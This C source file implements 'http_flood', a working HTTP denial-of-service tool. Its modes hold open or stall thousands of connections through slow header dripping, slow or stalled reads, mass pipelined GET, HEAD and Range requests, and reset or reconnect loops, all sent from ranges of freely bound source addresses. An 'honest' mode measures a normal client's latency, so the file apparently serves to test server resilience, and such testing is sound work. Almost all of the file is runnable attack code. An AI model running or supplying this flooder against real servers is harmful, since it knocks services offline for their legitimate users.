/*
 * An HTTP client that wants all of a server for itself, and one that only wants an answer.
 *
 * usage: http_flood MODE SERVER PORT PATH N SECONDS SOURCE...
 *	N connections from each SOURCE, which is an address, or `10.8.0.1+500` for that one and the
 *	499 behind it. Each that ends is made again. MODE is what all of them do:
 *	silent	nothing
 *	drip	a byte of a header now and then
 *	keep	one request, and nothing after its answer
 *	slow	a request, of whose answer they take 32 kB in 20 s
 *	stop	a request, of whose answer they take nothing
 *	half	the same, and they say that they send no more
 *	pipe	a hundred requests at once, of whose answers they take nothing
 *	head	the same with HEAD
 *	ranges	the same, each for another byte of it
 *	reset	a connection that they break off, over and over
 *	loop	a request and its answer on a new connection, over and over
 *	Says `ready` when all were there for the first time.
 * usage: http_flood honest SERVER PORT PATH MS SECONDS SOURCE
 *	A new connection every MS milliseconds, for one answer each. Says how many there were, how
 *	many failed, and in how many milliseconds 50 %, 95 % and all of them were there.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum {
	SOURCES_MAX = 16384,
	PIPELINED = 100,
	TAKE = 32 * 1024,
	TAKE_MS = 20000,
	DRIP_MS = 500,
	READY_MS = 4000, /* who is ended at once is never there */
	LATE_MS = 10000, /* an honest client gives up */
	REQUEST_SIZE = 64 * 1024,
};

enum mode { SILENT, DRIP, KEEP, SLOW, STOP, HALF, PIPE, HEADS, RANGES, RESET, LOOP, HONEST };
static const char *const modes[] = {"silent", "drip", "keep", "slow", "stop", "half", "pipe",
    "head", "ranges", "reset", "loop", "honest"};

union address {
	struct sockaddr sa;
	struct sockaddr_in v4;
	struct sockaddr_in6 v6;
};

struct attack {
	enum mode mode;
	union address server;
	const char *path;
	char request[REQUEST_SIZE];
	size_t request_len;
	union address *source;
	size_t sources;
};

/* One connection; fd -1: there is none. */
struct held {
	int fd;
	bool is_sent;
	uint64_t next_ms;
};

static uint64_t now_ms(void)
{
	struct timespec now;
	clock_gettime(CLOCK_MONOTONIC, &now);
	return (uint64_t)now.tv_sec * 1000 + (uint64_t)now.tv_nsec / 1000000;
}

static bool parse_address(const char *text, unsigned port, union address *out)
{
	memset(out, 0, sizeof *out);
	if (inet_pton(AF_INET, text, &out->v4.sin_addr) == 1) {
		out->v4.sin_family = AF_INET;
		out->v4.sin_port = htons((uint16_t)port);
		return true;
	}
	out->v6.sin6_family = AF_INET6;
	out->v6.sin6_port = htons((uint16_t)port);
	return inet_pton(AF_INET6, text, &out->v6.sin6_addr) == 1;
}

static socklen_t len_of(const union address *a)
{
	return a->sa.sa_family == AF_INET ? sizeof a->v4 : sizeof a->v6;
}

/* The address `n` behind this one. */
static void add_to(union address *a, uint32_t n)
{
	uint32_t last;
	uint8_t *bytes =
	    a->sa.sa_family == AF_INET ? (uint8_t *)&a->v4.sin_addr : a->v6.sin6_addr.s6_addr + 12;
	memcpy(&last, bytes, sizeof last);
	last = htonl(ntohl(last) + n);
	memcpy(bytes, &last, sizeof last);
}

static bool add_sources(struct attack *a, char *text)
{
	char *plus = strchr(text, '+');
	unsigned long n = plus ? strtoul(plus + 1, NULL, 10) : 1;
	if (plus)
		*plus = '\0';
	for (unsigned long i = 0; i < n && a->sources < SOURCES_MAX; i++) {
		if (!parse_address(text, 0, &a->source[a->sources]))
			return false;
		add_to(&a->source[a->sources++], (uint32_t)i);
	}
	return true;
}

/* What each connection sends. */
static void write_request(struct attack *a)
{
	bool is_many = a->mode == PIPE || a->mode == HEADS || a->mode == RANGES;
	for (int i = 0; i < (is_many ? PIPELINED : 1); i++) {
		char *to = a->request + a->request_len;
		size_t left = sizeof a->request - a->request_len;
		int n = snprintf(to, left, "%s %s HTTP/1.1\r\nHost: x\r\nUser-Agent: %s\r\n",
		    a->mode == HEADS ? "HEAD" : "GET", a->path, modes[a->mode]);
		a->request_len += (size_t)n;
		if (a->mode == RANGES)
			a->request_len +=
			    (size_t)snprintf(to + n, left - (size_t)n, "Range: bytes=%d-\r\n", i);
		if (a->mode == HONEST)
			a->request_len +=
			    (size_t)snprintf(to + n, left - (size_t)n, "Connection: close\r\n");
		if (a->mode != DRIP)
			a->request_len += (size_t)snprintf(a->request + a->request_len, 3, "\r\n");
	}
}

/* Begins to connect from `source`; -1: not now. */
static int connect_from(const struct attack *a, const union address *source)
{
	int on = 1, small = 8192;
	int fd = socket(a->server.sa.sa_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -1;
	setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &on, sizeof on);
	setsockopt(fd, IPPROTO_IP, IP_FREEBIND, &on, sizeof on);
	setsockopt(fd, IPPROTO_IPV6, IPV6_FREEBIND, &on, sizeof on);
	if (a->mode != LOOP && a->mode != HONEST)
		setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
	if (bind(fd, &source->sa, len_of(source)) == 0 &&
	    (connect(fd, &a->server.sa, len_of(&a->server)) == 0 || errno == EINPROGRESS))
		return fd;
	close(fd);
	return -1;
}

static void end_held(struct held *h, bool is_reset)
{
	const struct linger at_once = {.l_onoff = 1};
	if (is_reset)
		setsockopt(h->fd, SOL_SOCKET, SO_LINGER, &at_once, sizeof at_once);
	close(h->fd);
	h->fd = -1;
}

/* Takes up to `most` bytes; false: it has ended. */
static bool take(int fd, size_t most)
{
	static char bytes[TAKE];
	ssize_t n = recv(fd, bytes, most, MSG_DONTWAIT);
	return n > 0 || (n < 0 && (errno == EAGAIN || errno == EINTR));
}

/* Its turn: what this mode does with a connection that is there. */
static void act(const struct attack *a, struct held *h, short events, uint64_t now)
{
	if (events & (POLLERR | POLLHUP)) {
		end_held(h, false);
		return;
	}
	if (!h->is_sent && (events & POLLOUT)) {
		h->is_sent = true;
		h->next_ms = now + (uint64_t)rand() % TAKE_MS;
		if (a->mode == RESET) {
			end_held(h, true);
			return;
		}
		if (a->mode != SILENT)
			send(h->fd, a->request, a->request_len, MSG_DONTWAIT | MSG_NOSIGNAL);
		if (a->mode == HALF)
			shutdown(h->fd, SHUT_WR);
	}
	bool takes = a->mode == KEEP || a->mode == LOOP || a->mode == SILENT || a->mode == DRIP;
	if (takes && (events & POLLIN) && (!take(h->fd, TAKE) || a->mode == LOOP))
		end_held(h, a->mode == LOOP);
	else if (a->mode == DRIP && h->is_sent && now >= h->next_ms) {
		h->next_ms = now + DRIP_MS;
		send(h->fd, "x", 1, MSG_DONTWAIT | MSG_NOSIGNAL);
	} else if (a->mode == SLOW && h->is_sent && now >= h->next_ms) {
		h->next_ms = now + TAKE_MS;
		if (!take(h->fd, TAKE))
			end_held(h, false);
	}
}

/* Connections that stop reading only learn of their end from a read of nothing. */
static short wanted_events(const struct attack *a, const struct held *h)
{
	if (!h->is_sent)
		return POLLOUT;
	return a->mode == KEEP || a->mode == LOOP || a->mode == SILENT || a->mode == DRIP ? POLLIN
											  : 0;
}

static int flood(const struct attack *a, size_t per_source, unsigned seconds)
{
	size_t n = a->sources * per_source, sent = 0;
	struct held *held = calloc(n, sizeof *held);
	struct pollfd *polled = calloc(n, sizeof *polled);
	bool is_ready = false;
	uint64_t begin = now_ms(), end = begin + seconds * 1000ull, made = 0;

	if (!held || !polled)
		return 1;
	for (size_t i = 0; i < n; i++)
		held[i].fd = -1;
	while (now_ms() < end) {
		for (size_t i = 0; i < n; i++) {
			if (held[i].fd < 0) {
				held[i] = (struct held){
				    .fd = connect_from(a, &a->source[i % a->sources])};
				made += held[i].fd >= 0;
			}
			polled[i] =
			    (struct pollfd){.fd = held[i].fd, .events = wanted_events(a, &held[i])};
		}
		poll(polled, n, 20);
		uint64_t now = now_ms();
		sent = 0;
		for (size_t i = 0; i < n; i++) {
			if (polled[i].fd >= 0)
				act(a, &held[i], polled[i].revents, now);
			sent += held[i].is_sent;
		}
		if (!is_ready && (sent >= n * 9 / 10 || now > begin + READY_MS)) {
			is_ready = true;
			printf("ready\n");
			fflush(stdout);
		}
	}
	printf("made %llu, %zu at the end\n", (unsigned long long)made, sent);
	free(held);
	free(polled);
	return 0;
}

/* One answer, all of it; the milliseconds, or -1. */
static int ask_once(const struct attack *a)
{
	char bytes[TAKE];
	uint64_t begin = now_ms();
	struct pollfd p = {.fd = connect_from(a, &a->source[0]), .events = POLLOUT};
	size_t got = 0;
	bool is_good = false;

	if (p.fd < 0)
		return -1;
	if (poll(&p, 1, LATE_MS) == 1 &&
	    send(p.fd, a->request, a->request_len, MSG_NOSIGNAL) == (ssize_t)a->request_len)
		for (p.events = POLLIN; poll(&p, 1, LATE_MS) == 1;) {
			ssize_t n = recv(p.fd, bytes, sizeof bytes, 0);
			is_good &= n >= 0;
			if (n <= 0)
				break;
			if (got == 0)
				is_good = n > 12 && memcmp(bytes + 9, "200", 3) == 0;
			got += (size_t)n;
		}
	close(p.fd);
	return is_good && got ? (int)(now_ms() - begin) : -1;
}

static int by_size(const void *a, const void *b)
{
	return *(const int *)a - *(const int *)b;
}

static int honest(const struct attack *a, unsigned every_ms, unsigned seconds)
{
	size_t n = 0, failed = 0, most = seconds * 1000u / every_ms + 1;
	int *took = calloc(most, sizeof *took);
	uint64_t next = now_ms(), end = next + seconds * 1000ull;

	if (!took)
		return 1;
	for (; now_ms() < end && n < most; n++) {
		int ms = ask_once(a);
		failed += ms < 0;
		took[n] = ms < 0 ? LATE_MS * 2 : ms;
		next += every_ms;
		while (now_ms() < next)
			usleep(1000);
	}
	qsort(took, n, sizeof *took, by_size);
	printf("asked %zu failed %zu p50 %d p95 %d max %d\n", n, failed, took[n / 2],
	    took[n * 95 / 100], took[n - 1]);
	free(took);
	return 0;
}

int main(int argc, char **argv)
{
	static struct attack a;
	const struct rlimit files = {1 << 16, 1 << 16};
	size_t mode = 0;

	while (argc > 7 && mode < sizeof modes / sizeof *modes && strcmp(argv[1], modes[mode]) != 0)
		mode++;
	if (argc < 8 || mode == sizeof modes / sizeof *modes ||
	    !parse_address(argv[2], (unsigned)strtoul(argv[3], NULL, 10), &a.server)) {
		fprintf(stderr, "usage: http_flood MODE SERVER PORT PATH N SECONDS SOURCE...\n");
		return 2;
	}
	setrlimit(RLIMIT_NOFILE, &files);
	a.mode = (enum mode)mode;
	a.path = argv[4];
	a.source = calloc(SOURCES_MAX, sizeof *a.source);
	for (int i = 7; i < argc; i++)
		if (!a.source || !add_sources(&a, argv[i]))
			return 2;
	write_request(&a);
	unsigned n = (unsigned)strtoul(argv[5], NULL, 10), s = (unsigned)strtoul(argv[6], NULL, 10);
	int status = mode == HONEST ? honest(&a, n ? n : 1, s) : flood(&a, n, s);
	free(a.source);
	return status;
}
